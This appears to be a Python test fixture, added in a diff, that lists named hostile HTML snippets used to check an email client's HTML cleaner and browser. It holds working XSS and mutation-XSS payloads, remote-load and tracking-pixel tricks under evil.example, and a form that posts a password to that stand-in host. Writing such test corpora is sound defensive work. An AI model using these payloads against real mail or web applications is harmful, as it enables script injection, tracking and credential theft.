@@ -1,0 +1,63 @@
+"""HTML that somebody sends to reach out of their mail: (name, html) pairs, for the cleaner's tests and for the browser's.
+
+Every remote address is under evil.example, every script would set `window.pwned`: one look tells whether a wall has a hole.
+"""
+
+HOSTILE: tuple[tuple[str, str], ...] = (
+    ("script", "<script>window.pwned=1</script>"),
+    ("script_remote", "<script src='https://evil.example/a.js'></script>"),
+    ("img_onerror", "<img src=x onerror='window.pwned=1'>"),
+    ("img_remote", "<img src='https://evil.example/pixel.gif' width=1 height=1>"),
+    ("img_no_scheme", "<img src='//evil.example/pixel.gif'>"),
+    ("img_space_before", "<img src=' \t\nhttps://evil.example/pixel.gif'>"),
+    ("img_srcset", "<img src='cid:a' srcset='https://evil.example/2x.png 2x'>"),
+    ("picture", "<picture><source srcset='https://evil.example/a.webp'><img src='cid:a'></picture>"),
+    ("style_background", "<div style=\"background:url('https://evil.example/b.png')\">x</div>"),
+    ("style_background_colour", "<div style='background-color:red url(https://evil.example/b.png)'>x</div>"),
+    ("style_escaped", r"<div style='background:\75 rl(https://evil.example/b.png)'>x</div>"),
+    ("style_commented", "<div style='background:u/**/rl(https://evil.example/b.png)'>x</div>"),
+    ("style_image_set", "<div style=\"background:image-set('https://evil.example/b.png' 1x)\">x</div>"),
+    ("style_list_image", "<ul style='list-style:url(https://evil.example/b.png)'><li>x</ul>"),
+    ("style_cover", "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>cover</div>"),
+    ("style_expression", "<div style='width:expression(window.pwned=1)'>x</div>"),
+    ("style_element", "<style>@import 'https://evil.example/a.css';body{display:none}</style>"),
+    (
+        "style_font_face",
+        "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style>",
+    ),
+    ("link_stylesheet", "<link rel=stylesheet href='https://evil.example/a.css'>"),
+    ("link_prefetch", "<link rel=dns-prefetch href='https://evil.example'>"),
+    ("meta_refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"),
+    ("base", "<base href='https://evil.example/'><img src='a.png'>"),
+    ("iframe", "<iframe src='https://evil.example'></iframe>"),
+    ("iframe_srcdoc", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>"),
+    ("object_embed", "<object data='https://evil.example/a.swf'></object><embed src='https://evil.example/a.swf'>"),
+    ("form", "<form action='https://evil.example' method=post><input name=password><button>OK</button></form>"),
+    ("link_javascript", "<a href='javascript:window.pwned=1'>x</a>"),
+    ("link_javascript_split", "<a href='java&#10;script:window.pwned=1'>x</a>"),
+    ("link_data", "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>"),
+    ("svg_script", "<svg><script>window.pwned=1</script><image href='https://evil.example/a.png'/></svg>"),
+    (
+        "svg_data_image",
+        '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"/>\'>',
+    ),
+    ("svg_use", "<svg><use href='https://evil.example/a.svg#x'></use></svg>"),
+    (
+        "math_mutation",
+        "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
+    ),
+    ("noscript_mutation", "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>"),
+    ("template", "<template><img src=https://evil.example/a.png onerror=window.pwned=1></template>"),
+    ("video_audio", "<video src='https://evil.example/a.mp4' poster='https://evil.example/p.png'></video>"),
+    ("body_background", "<body background='https://evil.example/b.png' onload='window.pwned=1'>x</body>"),
+    (
+        "table_background",
+        "<table background='https://evil.example/b.png'><tr><td background='https://evil.example/c.png'>x</table>",
+    ),
+    ("unclosed_attribute", "<img alt='<a href=\"https://evil.example' src='https://evil.example/x.png'"),
+    ("close_the_page", "</div></body></html><script>window.pwned=1</script>"),
+    ("conditional_comment", "<!--[if gte IE 4]><script>window.pwned=1</script><![endif]-->"),
+    ("autofocus", "<a href='#' autofocus onfocus='window.pwned=1' tabindex=1>x</a>"),
+    ("clobber", "<a id=cookie name=cookie href='https://example.org'>x</a><img name=body>"),
+    ("nul_in_name", "<scr\x00ipt>window.pwned=1</scr\x00ipt><img src='java\x00script:window.pwned=1'>"),
+)
